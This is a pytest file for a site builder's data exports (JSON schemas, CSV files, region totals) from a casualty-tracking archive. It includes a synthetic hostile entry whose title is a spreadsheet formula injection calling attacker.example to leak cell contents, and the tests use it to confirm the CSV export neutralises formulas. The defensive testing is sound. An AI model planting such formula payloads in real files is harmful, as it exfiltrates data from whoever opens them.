"""The data exports: JSON against its schemas, CSV with the csv module, region totals as the pages show them."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from bs4 import BeautifulSoup
from conftest import EXAMPLE, MINIMAL_SITE, event, write_tree
from jsonschema import Draft202012Validator, FormatChecker, ValidationError

from site_builder import dataschema
from site_builder.build import build, check
from site_builder.datacsv import EVENT_COLUMNS, TALLY_COLUMNS, unguard
from site_builder.render import THEMES, environment
from site_builder.timeline import Total

Page = Callable[[str], BeautifulSoup]

# SYNTHETIC test text, hostile to CSV readers and spreadsheets: separators, quotes, line breaks, formulas.
HOSTILE_TITLE = '=HYPERLINK("http://attacker.example/?"&A1, "click"), then more'
HOSTILE_SUMMARY = 'First line, with "quotes";\nsecond line\r\nthird'
HOSTILE_VERBATIM = "@SUM(A1:A9)"
HOSTILE_SCOPE = "-north, the 'hills'"
HOSTILE_EVENT = (
    "---\n"
    'title: \'=HYPERLINK("http://attacker.example/?"&A1, "click"), then more\'\n'
    "date: 2025-03-09\n"
    "regions: [hills]\n"
    'summary: "First line, with \\"quotes\\";\\nsecond line\\r\\nthird"\n'
    "tags: [test-tag]\n"
    "tallies:\n"
    "  - measure: killed\n"
    "    count: 12\n"
    "    qualifier: at-least\n"
    "    verbatim: '@SUM(A1:A9)'\n"
    "    scope: \"-north, the 'hills'\"\n"
    "    as_of: 2025-03-10\n"
    "    source: monitor\n"
    "  - measure: killed\n"
    "    low: 10\n"
    "    high: 15\n"
    "    qualifier: exact\n"
    '    verbatim: "\'+10 to 15"\n'
    "    as_of: 2025-03-11\n"
    "    source: monitor\n"
    "sources:\n"
    "  - id: monitor\n"
    "    url: https://example.org/report?a=1&b=2\n"
    "---\n"
    "Narrative with *Markdown*.\n"
)


def load(path: Path) -> Any:
    return json.loads(path.read_text(encoding="utf-8"))


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def validate(document: Any, name: str) -> None:
    Draft202012Validator(dataschema.SCHEMAS[name], format_checker=FormatChecker()).validate(document)


@pytest.fixture(scope="module")
def synthetic(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A SYNTHETIC archive (made-up test entries): a hostile entry, a draft, an ordinary one."""
    root = tmp_path_factory.mktemp("data")
    content = write_tree(
        root / "content",
        {
            **MINIMAL_SITE,
            "site.yaml": MINIMAL_SITE["site.yaml"] + "license: CC0 for the test data\n",
            "events/2025/2025-03-09-hostile.md": HOSTILE_EVENT,
            "events/2025/2025-03-07-plain.md": event("Plain entry", regions="[north]"),
            "events/2025/2025-03-08-draft.md": event("Draft entry", extra="status: draft\n"),
        },
    )
    build(content, root / "output")
    return root / "output"


# --- JSON and its schemas -----------------------------------------------------------------------


def test_schemas_are_valid_draft_2020_12_and_strict() -> None:
    def objects(node: Any) -> list[dict[str, Any]]:
        found = []
        if isinstance(node, dict):
            if node.get("type") == "object" and "properties" in node:
                found.append(node)
            for value in node.values():
                found += objects(value)
        elif isinstance(node, list):
            for value in node:
                found += objects(value)
        return found

    for name, schema in dataschema.SCHEMAS.items():
        Draft202012Validator.check_schema(schema)
        assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema", name
        for node in objects(schema):  # every key the code writes must be named: nothing else is allowed
            assert node["additionalProperties"] is False, name
            assert node["required"] == list(node["properties"]), name


@pytest.mark.parametrize("site", ["example_site", "synthetic"])
def test_every_json_export_validates_against_its_schema(site: str, request: pytest.FixtureRequest) -> None:
    folder: Path = request.getfixturevalue(site) / "data"
    for name in dataschema.SCHEMAS:
        assert load(folder / name) == dataschema.SCHEMAS[name], name  # the build publishes the schemas
    validate(load(folder / "events.json"), "events.schema.json")
    validate(load(folder / "sources.json"), "sources.schema.json")
    validate(load(folder / "deleted.json"), "deleted.schema.json")
    regions = sorted(folder.glob("regions/*.json"))
    assert regions
    for path in regions:
        validate(load(path), "region.schema.json")


def test_schema_refuses_a_key_it_does_not_name(example_site: Path) -> None:
    document = load(example_site / "data/events.json")
    next(e for e in document["events"] if e["tallies"])["tallies"][0]["unexpected"] = 1
    with pytest.raises(ValidationError):
        validate(document, "events.schema.json")


def test_events_json_has_every_field_and_says_which_version(example_site: Path) -> None:
    document = load(example_site / "data/events.json")
    assert document["schema_version"] == 1
    assert document["title"] == "Coastal Syria, March 2025"
    assert document["base_url"] == "https://example.org/coastal-syria-2025/"
    assert document["generated_by"] == "site-builder 0.1.0"
    assert document["release"] is None
    assert document["commit"] is None or len(document["commit"]) == 40  # the example is in this repository
    killings = next(e for e in document["events"] if e["id"] == "2025-03-07-coastal-killings")
    source = (Path(__file__).parent.parent / "content/events/2025/2025-03-07-coastal-killings.md").read_text()
    assert killings["narrative"].strip() and killings["narrative"].strip() in source
    assert killings["url"] == "https://example.org/coastal-syria-2025/events/2025-03-07-coastal-killings/"
    chosen = [t for t in killings["tallies"] if t["chosen"]]
    assert {(t["measure"], t["group"]) for t in chosen} == {(t["measure"], t["group"]) for t in killings["tallies"]}
    assert len(chosen) == len({(t["measure"], t["group"]) for t in killings["tallies"]})
    assert any(t["scope"] for t in killings["tallies"])
    assert all(s["kind"] in ("quote", "paraphrase") for s in killings["statements"])


def test_drafts_are_not_exported(synthetic: Path) -> None:
    ids = [e["id"] for e in load(synthetic / "data/events.json")["events"]]
    assert ids == ["2025-03-07-plain", "2025-03-09-hostile"]
    assert [r["id"] for r in read_csv(synthetic / "data/events.csv")] == ids
    assert "draft" not in (synthetic / "data/tallies.csv").read_text(encoding="utf-8")
    assert load(synthetic / "data/sources.json")["sources"][0]["events"] == ids


# --- CSV --------------------------------------------------------------------------------------


def test_tallies_csv_has_one_row_per_figure_matching_the_json(example_site: Path) -> None:
    rows = read_csv(example_site / "data/tallies.csv")
    events = load(example_site / "data/events.json")["events"]
    assert list(rows[0]) == list(TALLY_COLUMNS)
    expected = [(e, t) for e in events for t in e["tallies"]]
    assert len(rows) == len(expected) > 0
    for row, (e, t) in zip(rows, expected, strict=True):
        assert row["event_id"] == e["id"]
        assert row["event_date"] == e["date"]["text"]
        assert row["regions"].split(";") == e["regions"]
        assert (row["measure"], row["group"], row["qualifier"], row["source"]) == (
            t["measure"],
            t["group"],
            t["qualifier"],
            t["source"],
        )
        for column in ("count", "low", "high"):
            assert row[column] == ("" if t[column] is None else str(t[column]))
        assert row["as_of"] == (t["as_of"]["text"] if t["as_of"] else "")
        assert row["chosen"] == ("true" if t["chosen"] else "false")
        assert row["source_name"]


def test_events_csv_columns(example_site: Path) -> None:
    rows = read_csv(example_site / "data/events.csv")
    events = load(example_site / "data/events.json")["events"]
    assert list(rows[0]) == list(EVENT_COLUMNS)
    assert [r["id"] for r in rows] == [e["id"] for e in events]
    for row, e in zip(rows, events, strict=True):
        assert (row["date"], row["date_first"], row["date_last"]) == (
            e["date"]["text"],
            e["date"]["first"],
            e["date"]["last"],
        )
        assert row["sources"].split(";") == [s["id"] for s in e["sources"]]
        assert int(row["figures"]) == len(e["tallies"])
        assert int(row["statements"]) == len(e["statements"])
        assert row["url"] == e["url"]


def test_csv_is_rfc_4180_utf8_without_bom(synthetic: Path) -> None:
    raw = (synthetic / "data/tallies.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")
    assert raw.endswith(b"\r\n")
    assert raw.split(b"\r\n")[0] == ",".join(TALLY_COLUMNS).encode()


def test_hostile_text_round_trips_and_is_guarded_against_formulas(synthetic: Path) -> None:
    events = read_csv(synthetic / "data/events.csv")
    hostile = next(r for r in events if r["id"] == "2025-03-09-hostile")
    assert hostile["title"].startswith("'=")  # a spreadsheet shows text, not a formula
    assert unguard(hostile["title"]) == HOSTILE_TITLE
    assert unguard(hostile["summary"]) == load(synthetic / "data/events.json")["events"][1]["summary"]
    assert "second line" in hostile["summary"] and "\n" in hostile["summary"]
    tallies = [r for r in read_csv(synthetic / "data/tallies.csv") if r["event_id"] == "2025-03-09-hostile"]
    assert [unguard(r["verbatim"]) for r in tallies] == [HOSTILE_VERBATIM, "'+10 to 15"]
    assert tallies[1]["verbatim"] == "''+10 to 15"  # an apostrophe is guarded too, so unguard is exact
    assert unguard(tallies[0]["scope"]) == HOSTILE_SCOPE
    assert tallies[0]["source_url"] == "https://example.org/report?a=1&b=2"
    assert [(r["count"], r["low"], r["high"]) for r in tallies] == [("12", "", ""), ("", "10", "15")]
    assert [r["chosen"] for r in tallies] == ["false", "true"]  # the later as_of
    # Every cell that a spreadsheet would read as a formula carries the guard.
    for path in ("data/events.csv", "data/tallies.csv"):
        with (synthetic / path).open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_csv_reads_back_with_pandas_style_readers(synthetic: Path) -> None:
    """A reader that is not the csv module's DictReader (io + csv.reader) sees the same rows."""
    text = (synthetic / "data/tallies.csv").read_bytes().decode("utf-8")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert len(rows) == 1 + 2  # header, the hostile entry's two figures (the plain one has none)
    assert all(len(row) == len(TALLY_COLUMNS) for row in rows)


# --- per-region files and sources.json --------------------------------------------------------


def _page_totals(page: BeautifulSoup) -> list[tuple[str, str, str, str]]:
    rows = [[td.get_text(" ", strip=True) for td in tr.find_all("td")] for tr in page.select("table.totals tbody tr")]
    return [(r[0], r[1], r[2], r[3]) for r in rows]


def test_region_files_match_their_pages(example_site: Path, page: Page) -> None:
    filters = environment(check(EXAMPLE), THEMES / "default", None).filters
    region_pages = sorted(example_site.glob("regions/*/index.html"))
    assert len(region_pages) == len(list(example_site.glob("data/regions/*.json"))) > 1
    for region_page in region_pages:
        region_id = region_page.parent.name
        document = load(example_site / f"data/regions/{region_id}.json")
        soup = page(f"regions/{region_id}/index.html")
        shown = _page_totals(soup)
        exported = [
            (
                filters["measure"](x["measure"]),
                filters["group"](x["group"]),
                filters["total"](Total(x["measure"], x["group"], x["low"], x["high"], x["exact"], x["events"])),
                str(x["events"]),
            )
            for x in document["totals"]
        ]
        assert exported == shown, region_id
        linked = [a["href"].split("/")[-2] for a in soup.select(".timeline h5 a")]
        assert [e["id"] for e in document["events"]] == linked
        assert document["region"]["id"] == region_id
    syria = load(example_site / "data/regions/syria.json")
    assert syria["region"]["children"] == ["latakia", "tartous", "hama", "homs"]
    assert load(example_site / "data/regions/latakia.json")["region"]["ancestors"] == ["syria"]


def test_sources_json_lists_the_entries_citing_each(example_site: Path, page: Page) -> None:
    for source in load(example_site / "data/sources.json")["sources"]:
        cited = [a["href"].split("/")[-2] for a in page(f"sources/{source['id']}/index.html").select("main h3 a")]
        assert sorted(source["events"]) == sorted(cited), source["id"]


# --- the data page, releases, determinism -------------------------------------------------------


def test_data_page_links_every_file_and_states_the_licence(example_site: Path, page: Page) -> None:
    soup = page("data/index.html")
    main = soup.select_one("main")
    hrefs = [a["href"] for a in main.select("a[href]")]
    for href in hrefs:
        assert not href.startswith(("http:", "https:", "/")), href
        assert (example_site / "data" / href).resolve().is_file(), href
    files = {href.removeprefix("../") for href in hrefs}
    for name in ("events.json", "events.csv", "tallies.csv", "sources.json", "deleted.json", *dataschema.SCHEMAS):
        assert f"data/{name}" in files, name
    assert {f"data/regions/{p.name}" for p in (example_site / "data/regions").glob("*.json")} <= files
    assert {"feed.atom", "sitemap.xml", "regions/syria/feed.atom", "tags/protest/feed.atom"} <= files
    assert "CC BY 4.0" in main.get_text()
    assert "never added together" in main.get_text()
    columns = [c.get_text() for c in main.select("#tallies_csv table code")]
    assert columns == list(TALLY_COLUMNS)
    footer = [a["href"] for a in page("index.html").select("footer a")]
    assert "data/index.html" in footer


def test_a_release_exports_its_own_data_without_feeds(tmp_path: Path) -> None:
    from test_versions import Repo, entry, killed

    repo = Repo(tmp_path)
    commit = repo.commit("Add A", {"events/2025/2025-03-07-a.md": entry("Entry A", killed("7"))})
    repo.git("tag", "v1")
    repo.commit("Add B", {"events/2025/2025-03-08-b.md": entry("Entry B", date="2025-03-08")})
    output = tmp_path / "output"
    build(repo.root / "content", output, releases=True)
    current = load(output / "data/events.json")
    release = load(output / "versions/v1/data/events.json")
    assert (current["release"], current["commit"]) == (None, repo.git("rev-parse", "HEAD").strip())
    assert (release["release"], release["commit"]) == ("v1", commit)
    assert [e["id"] for e in release["events"]] == ["2025-03-07-a"]
    validate(release, "events.schema.json")
    assert (output / "versions/v1/data/tallies.csv").is_file()
    assert not list((output / "versions").rglob("*.atom"))
    assert not (output / "versions/v1/sitemap.xml").exists()
    region = BeautifulSoup((output / "versions/v1/regions/hills/index.html").read_text(), "html.parser")
    assert region.select_one("link[type='application/atom+xml']") is None
    data_page = BeautifulSoup((output / "versions/v1/data/index.html").read_text(), "html.parser")
    assert data_page.select_one("#data-feeds") is None


def test_exports_are_deterministic(tmp_path: Path) -> None:
    files = {**MINIMAL_SITE, "events/2025/2025-03-09-hostile.md": HOSTILE_EVENT}
    content = write_tree(tmp_path / "content", files)
    build(content, tmp_path / "one")
    build(content, tmp_path / "two")
    written = sorted(p.relative_to(tmp_path / "one") for p in (tmp_path / "one").rglob("*") if p.is_file())
    exports = [p for p in written if p.parts[0] == "data" or p.suffix in (".atom", ".xml", ".txt")]
    assert len(exports) > 10
    for rel in exports:
        assert (tmp_path / "one" / rel).read_bytes() == (tmp_path / "two" / rel).read_bytes(), rel


def test_docs_describe_every_column_and_schema() -> None:
    docs = (Path(__file__).parent.parent / "docs/data.md").read_text(encoding="utf-8")
    for column in (*EVENT_COLUMNS, *TALLY_COLUMNS, *dataschema.SCHEMAS):
        assert f"`{column}`" in docs, column
